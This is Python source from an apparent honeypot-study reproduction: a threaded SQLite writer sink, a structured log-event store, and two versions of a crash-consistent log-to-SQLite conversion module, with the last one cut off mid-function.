        pending = self._pending
        pending.append(event)
        if len(pending) >= self.BATCH:
            self._queue.put(pending)
            self._pending = []

    def many(self, events: list[LogEvent]) -> None:
        """Accept a pre-collected batch (same semantics as ``__call__``
        once per event, minus the per-event dispatch)."""
        if self._error is not None:
            raise RuntimeError(
                f"sqlite writer for {self.db_path.name} already "
                f"failed") from self._error
        self._ensure_thread()
        pending = self._pending
        pending.extend(events)
        if len(pending) >= self.BATCH:
            self._queue.put(pending)
            self._pending = []

    def _flush_pending(self) -> None:
        """Hand the partial batch to the writer thread."""
        if self._pending:
            self._queue.put(self._pending)
            self._pending = []

    def _get_unbatched(self):
        """A ``get()`` for :func:`convert_durable` that unpacks event
        batches back into single items (sentinels and commit tokens
        ride the queue unbatched)."""
        backlog = self._backlog
        if backlog:
            return backlog.popleft()
        item = self._queue.get()
        if type(item) is list:
            backlog.extend(item)
            return backlog.popleft()
        return item

    def _drain(self) -> Iterator[LogEvent]:
        while True:
            item = self._queue.get()
            if item is self._SENTINEL:
                return
            if type(item) is list:
                yield from item
            else:
                yield item

    def _run(self) -> None:
        from repro.pipeline.convert import convert_durable, \
            convert_to_sqlite

        try:
            if self._durable:
                state = convert_durable(
                    self._get_unbatched, self.db_path, self._geoip,
                    self._scanners, sentinel=self._SENTINEL,
                    resume=self._resume)
                self.committed_state = {"rows": state["rows"],
                                        "digest": state["digest"]}
                self.path = state["path"]
            else:
                self.path = convert_to_sqlite(
                    self._drain(), self.db_path, self._geoip,
                    self._scanners)
        except BaseException as error:  # re-raised by close()/commit()
            self._error = error

    def commit(self, timeout: float | None = None) -> dict:
        """Durability barrier: block until every event handed to this
        sink so far is committed, WAL-checkpointed, and fsynced.

        Returns the committed ``{"rows": int, "digest": hex}`` state
        for the run-journal checkpoint.  Only durable sinks support
        commit; a sink that has seen no events reports its resume
        state (or the empty state) without touching the disk.
        """
        from repro.pipeline.convert import CommitRequest, DIGEST_SEED

        if not self._durable:
            raise RuntimeError("commit() requires durable=True")
        if self._error is not None:
            raise RuntimeError(
                f"sqlite writer for {self.db_path.name} already "
                f"failed") from self._error
        if self._thread is None:
            rows, digest = self._resume or (0, DIGEST_SEED.hex())
            return {"rows": rows, "digest": digest}
        self._flush_pending()
        token = CommitRequest()
        self._queue.put(token)
        waited = 0.0
        while not token.done.wait(0.1):
            waited += 0.1
            if self._error is not None or not self._thread.is_alive():
                if self._error is not None:
                    raise RuntimeError(
                        f"sqlite writer for {self.db_path.name} failed "
                        f"during commit") from self._error
                raise RuntimeError(
                    f"sqlite writer for {self.db_path.name} exited "
                    f"before acknowledging commit")
            if timeout is not None and waited >= timeout:
                raise TimeoutError(
                    f"commit barrier on {self.db_path.name} timed out "
                    f"after {timeout:.1f}s")
        return {"rows": token.rows, "digest": token.digest}

    def close(self) -> Path:
        """Finish the conversion; returns the database path (idempotent).

        Any exception raised on the writer thread -- at any point, not
        just during the final drain -- is re-raised here.
        """
        if self._error is not None:
            raise self._error
        if self.path is not None and self._thread is None:
            return self.path
        if self._thread is None:
            if self._durable:
                # Resume bookkeeping (post-indexes, final barrier) must
                # still run even when no new events arrived.
                self._ensure_thread()
            else:
                # No events ever arrived: still produce the (empty)
                # database.
                from repro.pipeline.convert import convert_to_sqlite

                self.path = convert_to_sqlite([], self.db_path,
                                              self._geoip,
                                              self._scanners)
                return self.path
        self._flush_pending()
        self._queue.put(self._SENTINEL)
        self._thread.join()
        self._thread = None
        if self._error is not None:
            obs.current().logger.error(
                "sink.writer_failed", db=self.db_path.name,
                error=f"{type(self._error).__name__}: {self._error}")
            raise self._error
        assert self.path is not None
        obs.current().logger.info("sink.writer_done",
                                  db=self.db_path.name)
        return self.path

    def abort(self) -> None:
        """Best-effort shutdown after a driver-side failure: stop the
        writer thread without raising, leaving whatever the database
        has durably committed for a later ``--resume`` to validate."""
        thread = self._thread
        self._thread = None
        if thread is None or not thread.is_alive():
            return
        self._flush_pending()
        self._queue.put(self._SENTINEL)
        thread.join(timeout=30.0)
