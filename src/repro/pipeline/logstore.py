"""Structured honeypot log events.

Each honeypot in the paper logs to its own ``.log``/``.json`` files; here
every honeypot emits :class:`LogEvent` records into a :class:`LogStore`,
which can persist them as JSON-lines files (the raw-log stage of the
paper's pipeline) for conversion into SQLite.
"""

from __future__ import annotations

import enum
import json
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Iterable, Iterator

from repro import obs


class EventType(str, enum.Enum):
    """Kinds of honeypot observations."""

    CONNECT = "connect"
    DISCONNECT = "disconnect"
    LOGIN_ATTEMPT = "login_attempt"
    COMMAND = "command"
    QUERY = "query"
    HTTP_REQUEST = "http_request"
    MALFORMED = "malformed"


@dataclass(frozen=True, slots=True)
class LogEvent:
    """One observation made by a honeypot.

    Attributes
    ----------
    timestamp:
        POSIX timestamp (simulated clock).
    honeypot_id:
        Unique deployment instance, e.g. ``"low-mysql-007"``.
    honeypot_type:
        Software identity, e.g. ``"qeeqbox"`` or ``"sticky_elephant"``.
    dbms:
        Emulated service: ``mysql`` / ``postgresql`` / ``redis`` /
        ``mssql`` / ``elasticsearch`` / ``mongodb``.
    interaction:
        ``low`` / ``medium`` / ``high``.
    config:
        Deployment configuration label (``default``, ``fake_data``,
        ``login_disabled``, ``multi``, ``single``).
    src_ip / src_port:
        The client endpoint.
    event_type:
        The :class:`EventType` value.
    action:
        Normalized action token used as the clustering "term", e.g.
        ``"SET"``, ``"COPY FROM PROGRAM"``, ``"GET /_nodes"``.
    username / password:
        Captured credentials for login attempts.
    raw:
        Raw payload excerpt (truncated) for manual inspection.
    """

    timestamp: float
    honeypot_id: str
    honeypot_type: str
    dbms: str
    interaction: str
    config: str
    src_ip: str
    src_port: int
    event_type: str
    action: str | None = None
    username: str | None = None
    password: str | None = None
    raw: str | None = None

    def to_json(self) -> str:
        """Serialize as a single JSON line.

        The dict literal spells the fields in declaration order, so the
        output bytes are identical to the historical ``asdict()`` form
        without paying its recursive copy on every event.
        """
        return json.dumps(
            {"timestamp": self.timestamp,
             "honeypot_id": self.honeypot_id,
             "honeypot_type": self.honeypot_type,
             "dbms": self.dbms,
             "interaction": self.interaction,
             "config": self.config,
             "src_ip": self.src_ip,
             "src_port": self.src_port,
             "event_type": self.event_type,
             "action": self.action,
             "username": self.username,
             "password": self.password,
             "raw": self.raw},
            separators=(",", ":"), ensure_ascii=False)

    @classmethod
    def from_json(cls, line: str) -> "LogEvent":
        """Parse a JSON line back into an event."""
        data = json.loads(line)
        return cls(**data)


#: Callable honeypots use to emit events.
EventSink = Callable[[LogEvent], None]


def consolidated_group_name(event: LogEvent) -> str:
    """The consolidated raw-log file an event belongs to.

    One definition shared by :meth:`LogStore.write_consolidated` and the
    streaming ``RawLogSink``: checkpoint/resume records committed byte
    offsets *per group file name*, so the grouping must be identical no
    matter which writer produced the file.
    """
    return f"{event.interaction}-{event.dbms}-{event.config}.jsonl"

#: Maximum stored length of the raw payload excerpt.
MAX_RAW = 2048


def truncate_raw(raw: bytes | str | None) -> str | None:
    """Clamp a raw payload for logging, decoding bytes leniently.

    Actual clippings are counted in the installed telemetry registry:
    ``logstore.raw_truncated`` is the number of clipped payloads and
    ``logstore.raw_truncated_bytes`` the payload bytes the capture
    dropped -- measured pre-decode (the wire size of a ``bytes``
    payload; UTF-8 size of a ``str`` one), minus the UTF-8 size of the
    excerpt that was kept.
    """
    if raw is None:
        return None
    if isinstance(raw, bytes):
        raw_bytes = len(raw)
        raw = raw.decode("utf-8", "replace")
    else:
        raw_bytes = None
    if len(raw) > MAX_RAW:
        kept = raw[:MAX_RAW]
        if raw_bytes is None:
            raw_bytes = len(raw.encode("utf-8"))
        metrics = obs.current().metrics
        metrics.inc("logstore.raw_truncated")
        metrics.inc("logstore.raw_truncated_bytes",
                    raw_bytes - len(kept.encode("utf-8")))
        return kept
    return raw


class LogStore:
    """Collects events in memory and persists them as JSON lines.

    The paper consolidates the logs of all honeypots sharing a
    configuration into a single file; :meth:`write_consolidated` mirrors
    that, grouping by ``(interaction, dbms, config)``.
    """

    def __init__(self) -> None:
        self._events: list[LogEvent] = []
        #: Lifetime append count -- unlike ``len()``, never reduced by
        #: :meth:`drain_from`, so ``total_appended == len(store) +
        #: quarantined`` is the store-level conservation invariant.
        self.total_appended = 0
        #: Malformed JSONL lines skipped by :meth:`read_consolidated`,
        #: as ``{"path", "line", "raw"}`` records.
        self.skipped_lines: list[dict] = []

    def append(self, event: LogEvent) -> None:
        """Record one event (usable directly as an :data:`EventSink`)."""
        self._events.append(event)
        self.total_appended += 1

    def extend(self, events: Iterable[LogEvent]) -> None:
        """Record many events."""
        before = len(self._events)
        self._events.extend(events)
        self.total_appended += len(self._events) - before

    def drain_from(self, start: int) -> list[LogEvent]:
        """Remove and return every event from index ``start`` on.

        Crash containment uses this to pull a quarantined visit's
        events back out of the store; :attr:`total_appended` still
        counts them as generated.
        """
        drained = self._events[start:]
        del self._events[start:]
        return drained

    def events(self) -> list[LogEvent]:
        """All recorded events, in arrival order."""
        return list(self._events)

    def __len__(self) -> int:
        return len(self._events)

    def __iter__(self) -> Iterator[LogEvent]:
        return iter(self._events)

    def write_consolidated(self, directory: str | Path) -> list[Path]:
        """Write one ``.jsonl`` file per (interaction, dbms, config).

        Returns the paths written, sorted.
        """
        directory = Path(directory)
        directory.mkdir(parents=True, exist_ok=True)
        groups: dict[str, list[LogEvent]] = {}
        for event in self._events:
            groups.setdefault(consolidated_group_name(event),
                              []).append(event)
        paths = []
        for name, events in sorted(groups.items()):
            path = directory / name
            with open(path, "w", encoding="utf-8") as handle:
                for event in events:
                    handle.write(event.to_json() + "\n")
            paths.append(path)
        return paths

    @classmethod
    def read_consolidated(cls, directory: str | Path) -> "LogStore":
        """Load every ``.jsonl`` file under ``directory``.

        Malformed lines (truncated writes, disk corruption) are skipped
        and quarantined into :attr:`skipped_lines` -- counted as
        ``logstore.malformed_lines`` in the installed metrics -- so one
        damaged file never blocks converting the rest of a capture.
        """
        store = cls()
        for path in sorted(Path(directory).glob("*.jsonl")):
            with open(path, encoding="utf-8") as handle:
                for lineno, line in enumerate(handle, 1):
                    line = line.strip()
                    if not line:
                        continue
                    try:
                        store.append(LogEvent.from_json(line))
                    except (TypeError, ValueError):
                        store.skipped_lines.append(
                            {"path": str(path), "line": lineno,
                             "raw": line[:200]})
                        obs.current().metrics.inc(
                            "logstore.malformed_lines")
        return store
