"""Log -> SQLite conversion (Figure 1, step 4).

Cleans and standardizes the honeypot logs into a single queryable SQLite
database.  The paper chose SQLite "for convenience"; the analysis layer
(:mod:`repro.core`) reads exclusively from these databases, never from
the traffic generator -- preserving the paper's separation between data
collection and analysis.

The conversion is streaming: ``events`` may be any iterable (including
a queue-fed generator from a
:class:`~repro.pipeline.sinks.SQLiteWriterSink`), consumed in chunks of
:data:`CHUNK_ROWS` -- each chunk is enriched (one shared lookup cache
across chunks), inserted via ``executemany`` in its own retried
transaction, and released, so memory stays bounded by the chunk size
rather than the run size.  The database is opened with write-oriented
pragmas (in-memory journal, ``synchronous=OFF``); the file is private
and rebuilt from scratch, so durability mid-conversion buys nothing.
"""

from __future__ import annotations

import itertools
import random
import sqlite3
import time
from pathlib import Path
from typing import Iterable, Iterator

from repro import obs
from repro.netsim.geoip import GeoIPDatabase
from repro.pipeline.enrich import EnrichedEvent, enrich_events, enrich_iter
from repro.pipeline.institutional import InstitutionalScannerList
from repro.pipeline.logstore import LogEvent
from repro.resilience import faults
from repro.resilience.retry import sqlite_busy_retry

#: Events enriched + inserted per transaction.
CHUNK_ROWS = 4096

_PRAGMAS = """
PRAGMA journal_mode = MEMORY;
PRAGMA synchronous = OFF;
PRAGMA temp_store = MEMORY;
"""

_SCHEMA = """
CREATE TABLE IF NOT EXISTS events (
    id INTEGER PRIMARY KEY,
    timestamp REAL NOT NULL,
    honeypot_id TEXT NOT NULL,
    honeypot_type TEXT NOT NULL,
    dbms TEXT NOT NULL,
    interaction TEXT NOT NULL,
    config TEXT NOT NULL,
    src_ip TEXT NOT NULL,
    src_port INTEGER NOT NULL,
    event_type TEXT NOT NULL,
    action TEXT,
    username TEXT,
    password TEXT,
    raw TEXT,
    country TEXT NOT NULL,
    asn INTEGER,
    as_name TEXT NOT NULL,
    as_type TEXT NOT NULL,
    institutional INTEGER NOT NULL
);
CREATE INDEX IF NOT EXISTS idx_events_src_ip ON events (src_ip);
CREATE INDEX IF NOT EXISTS idx_events_type ON events (event_type);
CREATE INDEX IF NOT EXISTS idx_events_dbms ON events (dbms, interaction);
"""

#: Built *after* the bulk insert (cheaper than maintaining them per
#: chunk): the composite indexes behind the analysis store's filter
#: pushdown (interaction/dbms slices ordered by time, per-source
#: lookups), plus ``ANALYZE`` so the query planner actually picks them.
_POST_INDEXES = """
CREATE INDEX IF NOT EXISTS idx_events_pushdown
    ON events (interaction, dbms, timestamp);
CREATE INDEX IF NOT EXISTS idx_events_src_dbms
    ON events (src_ip, dbms);
ANALYZE;
"""

_INSERT = """
INSERT INTO events (timestamp, honeypot_id, honeypot_type, dbms,
                    interaction, config, src_ip, src_port, event_type,
                    action, username, password, raw, country, asn,
                    as_name, as_type, institutional)
VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)
"""


def _chunks(iterable: Iterable, size: int) -> Iterator[list]:
    iterator = iter(iterable)
    while True:
        chunk = list(itertools.islice(iterator, size))
        if not chunk:
            return
        yield chunk


def convert_to_sqlite(events: Iterable[LogEvent], db_path: str | Path,
                      geoip: GeoIPDatabase,
                      scanners: InstitutionalScannerList | None = None,
                      *, chunk_rows: int = CHUNK_ROWS) -> Path:
    """Enrich ``events`` and write them to a SQLite database.

    ``events`` is consumed lazily, one :data:`CHUNK_ROWS` batch at a
    time (see module docstring).  An existing database at ``db_path``
    is replaced.  Returns the database path.
    """
    telemetry = obs.current()
    db_path = Path(db_path)
    db_path.parent.mkdir(parents=True, exist_ok=True)
    if db_path.exists():
        db_path.unlink()
    connection = sqlite3.connect(db_path)
    enrich_seconds = 0.0
    insert_seconds = 0.0
    rows_written = 0
    lookup_cache: dict = {}
    retry_rng = random.Random(f"sqlite-retry:{db_path.name}")
    try:
        connection.executescript(_PRAGMAS + _SCHEMA)
        for chunk in _chunks(events, chunk_rows):
            with telemetry.tracer.span("convert.enrich", db=db_path.name):
                start = time.perf_counter()
                rows = [_row(enriched) for enriched
                        in enrich_iter(chunk, geoip, scanners,
                                       cache=lookup_cache)]
                enrich_seconds += time.perf_counter() - start
            with telemetry.tracer.span("convert.insert", db=db_path.name):
                start = time.perf_counter()

                def insert() -> None:
                    # Transient lock (a concurrent writer, or the
                    # injected `sqlite.locked` fault) must not abort a
                    # whole replay: each chunk is one transaction,
                    # rolled back and retried with exponential backoff.
                    faults.current().maybe_raise(
                        "sqlite.locked",
                        lambda: sqlite3.OperationalError(
                            "database is locked"))
                    connection.executemany(_INSERT, rows)
                    connection.commit()

                sqlite_busy_retry(
                    insert, reset=connection.rollback,
                    rng=retry_rng, db=db_path.name)
                insert_seconds += time.perf_counter() - start
            rows_written += len(rows)
        with telemetry.tracer.span("convert.index", db=db_path.name):
            start = time.perf_counter()
            connection.executescript(_POST_INDEXES)
            telemetry.metrics.observe("convert.index_seconds",
                                      time.perf_counter() - start,
                                      db=db_path.name)
        telemetry.metrics.observe("convert.enrich_seconds",
                                  enrich_seconds, db=db_path.name)
        telemetry.metrics.observe("convert.insert_seconds",
                                  insert_seconds, db=db_path.name)
        telemetry.metrics.inc("convert.rows_written", rows_written,
                              db=db_path.name)
    finally:
        connection.close()
    return db_path


def _row(enriched: EnrichedEvent) -> tuple:
    event = enriched.event
    return (event.timestamp, event.honeypot_id, event.honeypot_type,
            event.dbms, event.interaction, event.config, event.src_ip,
            event.src_port, event.event_type, event.action, event.username,
            event.password, event.raw, enriched.country, enriched.asn,
            enriched.as_name, enriched.as_type,
            int(enriched.institutional))


def open_database(db_path: str | Path) -> sqlite3.Connection:
    """Open a converted database read-only with row access by name."""
    connection = sqlite3.connect(f"file:{Path(db_path)}?mode=ro", uri=True)
    connection.row_factory = sqlite3.Row
    return connection


def read_events(db_path: str | Path) -> Iterator[sqlite3.Row]:
    """Iterate over all event rows of a converted database."""
    connection = open_database(db_path)
    try:
        yield from connection.execute(
            "SELECT * FROM events ORDER BY timestamp, id")
    finally:
        connection.close()


def count_events(db_path: str | Path) -> int:
    """Total number of event rows in a converted database."""
    connection = open_database(db_path)
    try:
        (count,) = connection.execute(
            "SELECT COUNT(*) FROM events").fetchone()
        return count
    finally:
        connection.close()
