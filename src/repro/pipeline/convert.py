"""Log -> SQLite conversion (Figure 1, step 4).

Cleans and standardizes the honeypot logs into a single queryable SQLite
database.  The paper chose SQLite "for convenience"; the analysis layer
(:mod:`repro.core`) reads exclusively from these databases, never from
the traffic generator -- preserving the paper's separation between data
collection and analysis.

The conversion is streaming: ``events`` may be any iterable (including
a queue-fed generator from a
:class:`~repro.pipeline.sinks.SQLiteWriterSink`), consumed in chunks of
:data:`CHUNK_ROWS` -- each chunk is enriched (one shared lookup cache
across chunks), inserted via ``executemany`` in its own retried
transaction, and released, so memory stays bounded by the chunk size
rather than the run size.  The database is opened with write-oriented
pragmas (in-memory journal, ``synchronous=OFF``); the file is private
and rebuilt from scratch, so durability mid-conversion buys nothing.

Checkpointed runs instead use :func:`convert_durable`, which trades the
throw-away pragmas for WAL mode + ``synchronous=NORMAL`` and honors
:class:`CommitRequest` barriers: flush the pending batch, ``COMMIT``,
``PRAGMA wal_checkpoint(TRUNCATE)``, and ``fsync`` the database file,
then report ``(rows_written, chained row digest)`` back to the driver.
The chained digest ``H_i = sha256(H_{i-1} || repr(row_i))`` is what
``repro run --resume`` later recomputes over the on-disk prefix to
prove the database really contains exactly the rows a checkpoint
claims.
"""

from __future__ import annotations

import hashlib
import itertools
import os
import random
import sqlite3
import threading
import time
from pathlib import Path
from typing import Callable, Iterable, Iterator

from repro import obs
from repro.netsim.geoip import GeoIPDatabase
from repro.pipeline.enrich import (_FALLBACK, EnrichedEvent, enrich_events,
                                   enrich_iter)
from repro.pipeline.institutional import InstitutionalScannerList
from repro.pipeline.logstore import LogEvent
from repro.resilience import faults
from repro.resilience.retry import sqlite_busy_retry

#: Events enriched + inserted per transaction.
CHUNK_ROWS = 4096

_PRAGMAS = """
PRAGMA journal_mode = MEMORY;
PRAGMA synchronous = OFF;
PRAGMA temp_store = MEMORY;
"""

#: Pragmas for checkpointed runs: WAL survives a crash, NORMAL syncs at
#: every WAL checkpoint -- the commit barrier adds an explicit fsync on
#: top, so a journal checkpoint never claims rows the disk lacks.
_DURABLE_PRAGMAS = """
PRAGMA journal_mode = WAL;
PRAGMA synchronous = NORMAL;
PRAGMA temp_store = MEMORY;
"""

_SCHEMA = """
CREATE TABLE IF NOT EXISTS events (
    id INTEGER PRIMARY KEY,
    timestamp REAL NOT NULL,
    honeypot_id TEXT NOT NULL,
    honeypot_type TEXT NOT NULL,
    dbms TEXT NOT NULL,
    interaction TEXT NOT NULL,
    config TEXT NOT NULL,
    src_ip TEXT NOT NULL,
    src_port INTEGER NOT NULL,
    event_type TEXT NOT NULL,
    action TEXT,
    username TEXT,
    password TEXT,
    raw TEXT,
    country TEXT NOT NULL,
    asn INTEGER,
    as_name TEXT NOT NULL,
    as_type TEXT NOT NULL,
    institutional INTEGER NOT NULL
);
"""

#: Built *after* the bulk insert (a sorted bulk index build is far
#: cheaper than maintaining every index on each ``executemany``): the
#: single-column filter indexes, the composite indexes behind the
#: analysis store's filter pushdown (interaction/dbms slices ordered
#: by time, per-source lookups), plus ``ANALYZE`` so the query planner
#: actually picks them.  Nothing reads these databases mid-conversion
#: -- checkpoint validation scans by rowid -- so the indexes only have
#: to exist once conversion finishes.
_POST_INDEXES = """
CREATE INDEX IF NOT EXISTS idx_events_src_ip ON events (src_ip);
CREATE INDEX IF NOT EXISTS idx_events_type ON events (event_type);
CREATE INDEX IF NOT EXISTS idx_events_dbms ON events (dbms, interaction);
CREATE INDEX IF NOT EXISTS idx_events_pushdown
    ON events (interaction, dbms, timestamp);
CREATE INDEX IF NOT EXISTS idx_events_src_dbms
    ON events (src_ip, dbms);
ANALYZE;
"""

#: Data columns in canonical insert order (``id`` assigned by SQLite;
#: because the schema uses a plain ``INTEGER PRIMARY KEY``, inserts
#: after a tail truncation continue the 1..N sequence contiguously).
_ROW_COLUMNS = ("timestamp, honeypot_id, honeypot_type, dbms, "
                "interaction, config, src_ip, src_port, event_type, "
                "action, username, password, raw, country, asn, "
                "as_name, as_type, institutional")

_INSERT = f"""
INSERT INTO events ({_ROW_COLUMNS})
VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)
"""

#: First link of the chained row digest.  The chain is resumable from
#: any committed link, unlike a raw running ``sha256`` object.
DIGEST_SEED = b"\x00" * 32


def chain_digest(previous: bytes, row: tuple) -> bytes:
    """One link of the row-digest chain: ``sha256(prev || repr(row))``.

    ``repr`` of the insert tuple is stable across store/load because
    every column's Python type round-trips exactly through SQLite
    (floats as REAL, ints as INTEGER, str/None as TEXT/NULL).
    """
    return hashlib.sha256(previous + repr(row).encode("utf-8")).digest()


def prefix_digest(db_path: str | Path, rows: int) -> str | None:
    """Chained digest of the first ``rows`` events (id order), or
    ``None`` if the database is missing or holds fewer rows."""
    db_path = Path(db_path)
    if rows == 0:
        return DIGEST_SEED.hex()
    if not db_path.exists():
        return None
    digest = DIGEST_SEED
    seen = 0
    connection = sqlite3.connect(f"file:{db_path}?mode=ro", uri=True)
    try:
        cursor = connection.execute(
            f"SELECT {_ROW_COLUMNS} FROM events ORDER BY id LIMIT ?",
            (rows,))
        for row in cursor:
            digest = chain_digest(digest, tuple(row))
            seen += 1
    except sqlite3.DatabaseError:
        return None
    finally:
        connection.close()
    return digest.hex() if seen == rows else None


def truncate_events(db_path: str | Path, rows: int) -> int:
    """Durably delete every events row beyond the first ``rows``.

    The idempotent resume step that discards uncommitted tail rows a
    crash may have left behind.  Returns the number of rows removed.
    """
    db_path = Path(db_path)
    if not db_path.exists():
        return 0
    connection = sqlite3.connect(db_path)
    try:
        (removed,) = connection.execute(
            "SELECT COUNT(*) FROM events WHERE id > ?", (rows,)).fetchone()
        connection.execute("DELETE FROM events WHERE id > ?", (rows,))
        connection.commit()
        connection.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    finally:
        connection.close()
    fd = os.open(db_path, os.O_RDWR)
    try:
        os.fsync(fd)
    finally:
        os.close(fd)
    return removed


class CommitRequest:
    """Barrier token a driver enqueues into a durable conversion.

    The writer flushes everything received before the token, commits,
    WAL-checkpoints, fsyncs, fills in ``rows``/``digest``, and sets
    ``done``.
    """

    def __init__(self) -> None:
        self.done = threading.Event()
        self.rows = 0
        self.digest = ""


def _chunks(iterable: Iterable, size: int) -> Iterator[list]:
    iterator = iter(iterable)
    while True:
        chunk = list(itertools.islice(iterator, size))
        if not chunk:
            return
        yield chunk


def convert_to_sqlite(events: Iterable[LogEvent], db_path: str | Path,
                      geoip: GeoIPDatabase,
                      scanners: InstitutionalScannerList | None = None,
                      *, chunk_rows: int = CHUNK_ROWS) -> Path:
    """Enrich ``events`` and write them to a SQLite database.

    ``events`` is consumed lazily, one :data:`CHUNK_ROWS` batch at a
    time (see module docstring).  An existing database at ``db_path``
    is replaced.  Returns the database path.
    """
    telemetry = obs.current()
    db_path = Path(db_path)
    db_path.parent.mkdir(parents=True, exist_ok=True)
    if db_path.exists():
        db_path.unlink()
    connection = sqlite3.connect(db_path)
    enrich_seconds = 0.0
    insert_seconds = 0.0
    rows_written = 0
    lookup_cache: dict = {}
    scanners = scanners or InstitutionalScannerList()
    retry_rng = random.Random(f"sqlite-retry:{db_path.name}")
    try:
        connection.executescript(_PRAGMAS + _SCHEMA)
        for chunk in _chunks(events, chunk_rows):
            with telemetry.tracer.span("convert.enrich", db=db_path.name):
                start = time.perf_counter()
                rows = _rows(chunk, geoip, scanners, lookup_cache)
                enrich_seconds += time.perf_counter() - start
            with telemetry.tracer.span("convert.insert", db=db_path.name):
                start = time.perf_counter()

                def insert() -> None:
                    # Transient lock (a concurrent writer, or the
                    # injected `sqlite.locked` fault) must not abort a
                    # whole replay: each chunk is one transaction,
                    # rolled back and retried with exponential backoff.
                    faults.current().maybe_raise(
                        "sqlite.locked",
                        lambda: sqlite3.OperationalError(
                            "database is locked"))
                    connection.executemany(_INSERT, rows)
                    connection.commit()

                sqlite_busy_retry(
                    insert, reset=connection.rollback,
                    rng=retry_rng, db=db_path.name)
                insert_seconds += time.perf_counter() - start
            rows_written += len(rows)
        with telemetry.tracer.span("convert.index", db=db_path.name):
            start = time.perf_counter()
            connection.executescript(_POST_INDEXES)
            telemetry.metrics.observe("convert.index_seconds",
                                      time.perf_counter() - start,
                                      db=db_path.name)
        telemetry.metrics.observe("convert.enrich_seconds",
                                  enrich_seconds, db=db_path.name)
        telemetry.metrics.observe("convert.insert_seconds",
                                  insert_seconds, db=db_path.name)
        telemetry.metrics.inc("convert.rows_written", rows_written,
                              db=db_path.name)
    finally:
        connection.close()
    return db_path


def convert_durable(get: Callable[[], object], db_path: str | Path,
                    geoip: GeoIPDatabase,
                    scanners: InstitutionalScannerList | None = None,
                    *, sentinel: object,
                    resume: tuple[int, str] | None = None,
                    chunk_rows: int = CHUNK_ROWS) -> dict:
    """Crash-consistent streaming conversion with commit barriers.

    Pulls items from ``get()`` until ``sentinel``: :class:`LogEvent`
    items are buffered and inserted in ``chunk_rows`` batches;
    :class:`CommitRequest` items flush the partial batch and run the
    durability barrier (COMMIT + ``wal_checkpoint(TRUNCATE)`` + fsync)
    before acknowledging with the post-barrier row count and chain
    digest.

    ``resume=(rows, digest_hex)`` reopens an existing database whose
    committed prefix the caller has already validated and truncated;
    otherwise any existing database is replaced.  Returns the final
    state: ``{"path", "rows", "digest"}``.
    """
    telemetry = obs.current()
    db_path = Path(db_path)
    db_path.parent.mkdir(parents=True, exist_ok=True)
    if resume is None:
        for stale in (db_path, db_path.with_name(db_path.name + "-wal"),
                      db_path.with_name(db_path.name + "-shm")):
            if stale.exists():
                stale.unlink()
        rows_written, digest = 0, DIGEST_SEED
    else:
        rows_written, digest = resume[0], bytes.fromhex(resume[1])
    connection = sqlite3.connect(db_path)
    enrich_seconds = 0.0
    insert_seconds = 0.0
    barrier_count = 0
    resumed_at = rows_written
    lookup_cache: dict = {}
    scanners = scanners or InstitutionalScannerList()
    retry_rng = random.Random(f"sqlite-retry:{db_path.name}")
    buffer: list[LogEvent] = []

    def flush() -> None:
        nonlocal enrich_seconds, insert_seconds, rows_written, digest
        if not buffer:
            return
        with telemetry.tracer.span("convert.enrich", db=db_path.name):
            start = time.perf_counter()
            rows = _rows(buffer, geoip, scanners, lookup_cache)
            enrich_seconds += time.perf_counter() - start
        with telemetry.tracer.span("convert.insert", db=db_path.name):
            start = time.perf_counter()

            def insert() -> None:
                faults.current().maybe_raise(
                    "sqlite.locked",
                    lambda: sqlite3.OperationalError(
                        "database is locked"))
                connection.executemany(_INSERT, rows)
                # Commit per batch (cheap under WAL + synchronous=NORMAL
                # -- no fsync until a checkpoint barrier) so a retry's
                # rollback can only ever discard this batch, never one
                # the digest chain already covers.
                connection.commit()

            sqlite_busy_retry(insert, reset=connection.rollback,
                              rng=retry_rng, db=db_path.name)
            insert_seconds += time.perf_counter() - start
        for row in rows:
            digest = chain_digest(digest, row)
        rows_written += len(rows)
        buffer.clear()

    def barrier() -> None:
        nonlocal barrier_count
        start = time.perf_counter()
        connection.commit()
        connection.execute("PRAGMA wal_checkpoint(TRUNCATE)")
        fd = os.open(db_path, os.O_RDWR)
        try:
            os.fsync(fd)
        finally:
            os.close(fd)
        barrier_count += 1
        telemetry.metrics.observe("checkpoint.barrier_seconds",
                                  time.perf_counter() - start,
                                  db=db_path.name)

    try:
        connection.executescript(_DURABLE_PRAGMAS + _SCHEMA)
        connection.commit()
        while True:
            item = get()
            if item is sentinel:
                break
            if isinstance(item, CommitRequest):
                flush()
                barrier()
                item.rows = rows_written
                item.digest = digest.hex()
                item.done.set()
                continue
            buffer.append(item)
            if len(buffer) >= chunk_rows:
                flush()
        flush()
        with telemetry.tracer.span("convert.index", db=db_path.name):
            start = time.perf_counter()
            connection.executescript(_POST_INDEXES)
            telemetry.metrics.observe("convert.index_seconds",
                                      time.perf_counter() - start,
                                      db=db_path.name)
        barrier()
        telemetry.metrics.observe("convert.enrich_seconds",
                                  enrich_seconds, db=db_path.name)
        telemetry.metrics.observe("convert.insert_seconds",
                                  insert_seconds, db=db_path.name)
        telemetry.metrics.inc("convert.rows_written",
                              rows_written - resumed_at, db=db_path.name)
        telemetry.metrics.inc("checkpoint.db_barriers", barrier_count,
                              db=db_path.name)
    finally:
        connection.close()
    return {"path": db_path, "rows": rows_written, "digest": digest.hex()}


def _row(enriched: EnrichedEvent) -> tuple:
    event = enriched.event
    return (event.timestamp, event.honeypot_id, event.honeypot_type,
            event.dbms, event.interaction, event.config, event.src_ip,
            event.src_port, event.event_type, event.action, event.username,
            event.password, event.raw, enriched.country, enriched.asn,
            enriched.as_name, enriched.as_type,
            int(enriched.institutional))


def _rows(events: list[LogEvent], geoip: GeoIPDatabase,
          scanners: InstitutionalScannerList, cache: dict) -> list[tuple]:
    """Fused enrich + row build: ``[_row(e) for e in enrich_iter(...)]``
    without the per-event :class:`EnrichedEvent` intermediate.

    Must stay behaviorally identical to that composition: the keyed
    ``enrich.lookup`` fault fires once per cache miss, only successful
    lookups are cached, and failures fall back to :data:`_FALLBACK`
    and count ``resilience.enrich_fallbacks``.
    """
    rows = []
    append = rows.append
    get = cache.get
    for event in events:
        metadata = get(event.src_ip)
        if metadata is None:
            try:
                faults.current().maybe_raise("enrich.lookup",
